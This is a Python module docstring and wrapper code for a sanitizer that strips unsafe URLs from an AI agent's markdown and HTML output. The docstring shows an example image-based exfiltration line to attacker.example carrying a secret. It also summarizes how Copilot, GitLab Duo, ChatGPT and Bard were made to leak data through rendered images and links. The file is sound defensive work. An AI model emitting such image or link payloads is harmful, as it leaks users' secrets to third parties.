"""Make an agent's markdown and HTML safe to render: no URL leaves through the reader's client.

The commonest real exfiltration channel needs no network access by the agent: it writes
``![](https://attacker.example/log?d=SECRET)`` and the user's chat client fetches the image.
Microsoft 365 Copilot (EchoLeak: reference-style images through an allowed Teams proxy URL),
GitLab Duo (raw HTML ``<img>`` and ``<form>`` in streamed markdown), ChatGPT and Bard (images
with the data in the query, Google Apps Script on an allowed domain) all leaked this way. This
package removes those URLs with the policy that governs the network:

- images stay only when ``output.images`` allows the URL, links only when ``output.links``
  does, only over ``https:``; nothing that carries a secret or encoded data (a dynamic link),
  even to an allowed host;
- what is removed is the URL: a link's text and an image's alt text stay, so the answer still
  reads well; a bare URL or autolink becomes "(link removed)";
- markdown comes out as markdown (see :mod:`~egresslock.sanitize.mdrewrite`), HTML as HTML.

Modules:

- :mod:`~egresslock.sanitize.urls`       the policy's decision for one URL (:class:`SanitizePolicy`)
- :mod:`~egresslock.sanitize.htmlsafe`   HTML through nh3, with the decision on every href/src
- :mod:`~egresslock.sanitize.mdparse`    markdown-it-py, configured to see every way to a URL
- :mod:`~egresslock.sanitize.mdrewrite`  rewriting the blocks that hold something unsafe
- :mod:`~egresslock.sanitize.stream`     :class:`Sanitizer`: streaming, units, references
- :mod:`~egresslock.sanitize.removal`    :class:`Removal`: what was removed and why

Example::

    from egresslock.policy import load_policy
    from egresslock import sanitize

    policy = sanitize.compiled(load_policy("policy.yaml"))
    safe = sanitize.markdown(answer, policy)

    stream = sanitize.Sanitizer(policy, on_removal=print)
    for chunk in model_stream:
        show(stream.feed(chunk))
    show(stream.close())
"""

from __future__ import annotations

from egresslock.policy.model import Policy
from egresslock.sanitize.removal import OnRemoval, Removal
from egresslock.sanitize.stream import Format, Sanitizer
from egresslock.sanitize.urls import SanitizePolicy, UrlDecision, compiled

__all__ = [
    "Format",
    "OnRemoval",
    "Removal",
    "SanitizePolicy",
    "Sanitizer",
    "UrlDecision",
    "compiled",
    "html",
    "markdown",
]


def markdown(text: str, policy: Policy | SanitizePolicy, *,
             on_removal: OnRemoval | None = None) -> str:
    """``text`` (markdown, raw HTML allowed inside) with every URL the policy forbids removed."""
    return _whole(text, policy, "markdown", on_removal)


def html(text: str, policy: Policy | SanitizePolicy, *,
         on_removal: OnRemoval | None = None) -> str:
    """``text`` (an HTML document or fragment) cleaned by nh3, every URL judged by the policy."""
    return _whole(text, policy, "html", on_removal)


def _whole(text: str, policy: Policy | SanitizePolicy, fmt: Format,
           on_removal: OnRemoval | None) -> str:
    sanitizer = Sanitizer(policy, fmt=fmt, on_removal=on_removal)
    return sanitizer.feed(text) + sanitizer.close()
